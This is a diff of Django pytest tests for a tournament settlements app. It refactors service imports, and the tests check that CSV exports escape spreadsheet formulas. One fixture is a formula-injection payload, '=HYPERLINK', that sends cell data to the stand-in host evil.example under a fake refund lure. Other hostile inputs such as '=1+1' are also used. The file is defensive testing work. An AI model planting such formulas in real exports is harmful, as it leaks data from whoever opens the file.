@@ -10,11 +10,19 @@ import pytest
 from django.test import Client
 from django.urls import reverse
 
-from settlements import services
 from settlements.exports import ledger
 from settlements.exports.spreadsheets import FORMULA_STARTS, safe_cell
 from settlements.selectors.payments import approved_lines
-from settlements.services import AdjustmentEntry, CompensationEntry
+from settlements.services import settlements as settlement_services
+from settlements.services.compensation import (
+    CompensationEntry,
+    compensation_approve,
+    compensation_propose,
+)
+from settlements.services.incidents import incident_report
+from settlements.services.payments import payment_confirm
+from settlements.services.settlements import AdjustmentEntry
+from settlements.services.snapshots import case_load_snapshot, case_withdraw
 from tests.conftest import build_snapshot
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for your refund")'
@@ -52,7 +60,7 @@ def hostile_case(operator):
     doc = build_snapshot(tournament_id=HYPERLINK, stage="late", entrants=len(HOSTILE_IDS))
     for player, text in zip(doc["players"], HOSTILE_IDS, strict=True):
         player["id"] = text
-    return services.case_load_snapshot(actor=operator, snapshot=json.dumps(doc))
+    return case_load_snapshot(actor=operator, snapshot=json.dumps(doc))
 
 
 def assert_escaped(rows: list[dict], column: str, expected: set[str]) -> None:
@@ -66,9 +74,11 @@ def test_ledgers_escape_ids_and_keep_amounts_numeric(
     operator, tournament_manager, second_manager, hostile_case
 ):
     case = hostile_case
-    settlement = services.settlement_prepare(case=case, actor=operator)
-    settlement = services.settlement_submit(settlement=settlement, actor=operator)
-    settlement = services.settlement_approve(settlement=settlement, actor=tournament_manager)
+    settlement = settlement_services.settlement_prepare(case=case, actor=operator)
+    settlement = settlement_services.settlement_submit(settlement=settlement, actor=operator)
+    settlement = settlement_services.settlement_approve(
+        settlement=settlement, actor=tournament_manager
+    )
     rows = read("".join(ledger.settlement_ledger_csv(settlement)))
     assert_escaped(rows, "tournament", {HYPERLINK})
     paid = {row["player"] for row in rows}
@@ -76,7 +86,7 @@ def test_ledgers_escape_ids_and_keep_amounts_numeric(
 
     # An adjustment's reversal is a negative amount: still a number, not text with a quote.
     first = settlement.lines.order_by("line_no").first()
-    adjustment = services.settlement_adjust(
+    adjustment = settlement_services.settlement_adjust(
         settlement=settlement,
         actor=operator,
         reason="-1 wrong line",
@@ -84,23 +94,21 @@ def test_ledgers_escape_ids_and_keep_amounts_numeric(
             AdjustmentEntry(first.player, first.kind, first.unit, -first.amount, first.source)
         ],
     )
-    adjustment = services.settlement_submit(settlement=adjustment, actor=operator)
-    adjustment = services.settlement_approve(settlement=adjustment, actor=second_manager)
+    adjustment = settlement_services.settlement_submit(settlement=adjustment, actor=operator)
+    adjustment = settlement_services.settlement_approve(settlement=adjustment, actor=second_manager)
     [reversal] = read("".join(ledger.settlement_ledger_csv(adjustment)))
     assert reversal["amount_minor"] == str(-first.amount)
     assert reversal["amount"] == ledger.decimal_amount(-first.amount, first.unit, "USD")
     assert reversal["amount"].startswith("-")
     assert reversal["player"] == "'" + first.player
 
-    compensation = services.compensation_propose(
+    compensation = compensation_propose(
         case=case,
         actor=operator,
         reason="@lag",
         entries=[CompensationEntry(text, 100) for text in HOSTILE_IDS],
     )
-    compensation = services.compensation_approve(
-        compensation=compensation, actor=tournament_manager
-    )
+    compensation = compensation_approve(compensation=compensation, actor=tournament_manager)
     rows = read("".join(ledger.compensation_ledger_csv(compensation)))
     assert_escaped(rows, "player", set(HOSTILE_IDS))
     assert_escaped(rows, "tournament", {HYPERLINK})
@@ -111,7 +119,7 @@ def test_ledgers_escape_ids_and_keep_amounts_numeric(
 def test_the_history_export_escapes_ids_and_reasons(
     operator, tournament_manager, auditor, hostile_case
 ):
-    services.case_withdraw(case=hostile_case, actor=operator, reason="\t=1+1 " + HYPERLINK)
+    case_withdraw(case=hostile_case, actor=operator, reason="\t=1+1 " + HYPERLINK)
     client = Client()
     client.force_login(auditor)
     for view in ("changes", "events"):
@@ -139,18 +147,20 @@ def test_statement_and_payment_exports_escape_ids_and_references(
     reference, is safe to open."""
     from django.utils import timezone
 
-    from settlements.services import ConfirmationEntry
+    from settlements.services.payments import ConfirmationEntry
 
-    incident = services.incident_report(actor=operator, title="=1+1", started_at=timezone.now())
+    incident = incident_report(actor=operator, title="=1+1", started_at=timezone.now())
     doc = build_snapshot(tournament_id=HYPERLINK, stage="early", entrants=len(HOSTILE_IDS))
     for player, text in zip(doc["players"], HOSTILE_IDS, strict=True):
         player["id"] = text
-    case = services.case_load_snapshot(actor=operator, snapshot=json.dumps(doc), incident=incident)
-    settlement = services.settlement_prepare(case=case, actor=operator)
-    settlement = services.settlement_submit(settlement=settlement, actor=operator)
-    settlement = services.settlement_approve(settlement=settlement, actor=tournament_manager)
+    case = case_load_snapshot(actor=operator, snapshot=json.dumps(doc), incident=incident)
+    settlement = settlement_services.settlement_prepare(case=case, actor=operator)
+    settlement = settlement_services.settlement_submit(settlement=settlement, actor=operator)
+    settlement = settlement_services.settlement_approve(
+        settlement=settlement, actor=tournament_manager
+    )
     line = next(approved_lines())
-    services.payment_confirm(
+    payment_confirm(
         actor=cashier,
         confirmations=[
             ConfirmationEntry(line.key, "failed", HYPERLINK, timezone.now(), line.amount)
